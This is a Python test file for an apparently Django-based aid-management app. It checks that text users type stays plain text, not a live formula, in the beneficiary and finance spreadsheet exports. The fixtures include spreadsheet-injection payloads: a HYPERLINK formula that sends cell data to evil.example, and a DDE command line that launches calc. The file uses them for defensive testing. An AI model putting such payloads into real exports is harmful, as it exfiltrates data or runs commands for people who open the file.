"""Text a person typed is written to every spreadsheet as text: opened in a spreadsheet
program, an applicant's "=HYPERLINK(...)" must stay words, never a live formula."""

import ast
from decimal import Decimal
from io import BytesIO
from pathlib import Path

from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from sanad.beneficiaries.models import ExportFile
from sanad.beneficiaries.tests.conftest import register
from sanad.finance import services as finance
from sanad.finance.models import BudgetLine
from sanad.lib.xlsx import FORMULA_STARTS, append

ATTACK = '=HYPERLINK("http://evil.example/?d="&A2&B2,"Voir les statuts")'
SANAD = Path(__file__).resolve().parents[1]


def _cells(content: bytes):
    book = load_workbook(BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _saved(book) -> bytes:
    out = BytesIO()
    book.save(out)
    return out.getvalue()


@given(
    st.sampled_from(FORMULA_STARTS),
    st.text(alphabet=st.characters(blacklist_categories=["Cs", "Cc"]), max_size=30),
)
def test_any_text_that_looks_like_a_formula_is_written_as_text(start, rest):
    value = start + "1+" + rest
    for write_only in (False, True):
        book = Workbook(write_only=write_only)
        sheet = book.create_sheet("x")
        append(sheet, [value, "plain", 3, None])
        cells = _cells(_saved(book))
        assert not [c for c in cells if c.data_type == "f"]
        assert cells[0].value == value.replace("\r", "\n")  # XML's own line endings


def test_the_beneficiary_export_keeps_a_typed_formula_as_text(client_for, personas, settings):
    settings.MEDIA_ROOT = settings.MEDIA_ROOT / "formulas"
    register(personas, "nour", first_name_latin=ATTACK, last_name_latin="=1+1")
    response = client_for("nour_manager").post(reverse("beneficiaries:beneficiary_export"))
    export = ExportFile.objects.get(code=response["Location"].rstrip("/").split("/")[-1])
    cells = _cells(Path(export.file.path).read_bytes())
    assert {c.value for c in cells} >= {ATTACK, "=1+1"}
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def test_the_finance_export_keeps_a_typed_formula_as_text(client_for, personas):
    line = BudgetLine.objects.create(
        name="=cmd|' /C calc'!A0",
        category="transport",
        amount=Decimal("100"),
        period_start="2026-01-01",
        period_end="2026-12-31",
    )
    claim = finance.save_claim(
        actor=personas.nour_manager,
        organisation=personas.nour,
        claim=None,
        values={
            "budget_line": line,
            "amount": Decimal("10"),
            "spent_on": "2026-11-03",
            "description": ATTACK,
        },
    )
    finance.submit(actor=personas.nour_manager, claim=claim)
    finance.decide(actor=personas.finance, claim=claim, approve=True)
    finance.pay(actor=personas.finance, claim=claim, paid_on="2026-11-20", reference="@SUM(1)")
    cells = _cells(client_for("finance").get(reverse("finance:export_xlsx")).content)
    assert {c.value for c in cells} >= {ATTACK, "@SUM(1)"}
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def test_every_module_that_builds_a_workbook_appends_through_the_safe_writer():
    """A new export that calls openpyxl's own append would bring formulas back."""
    offenders = []
    for path in SANAD.rglob("*.py"):
        if "tests" in path.parts or path.name == "xlsx.py":
            continue
        source = path.read_text(encoding="utf-8")
        if "Workbook(" not in source:
            continue
        tree = ast.parse(source)
        safe = any(
            isinstance(node, ast.ImportFrom) and node.module == "sanad.lib.xlsx"
            for node in ast.walk(tree)
        )
        if not safe:
            offenders.append(str(path.relative_to(SANAD)))
    assert not offenders, offenders
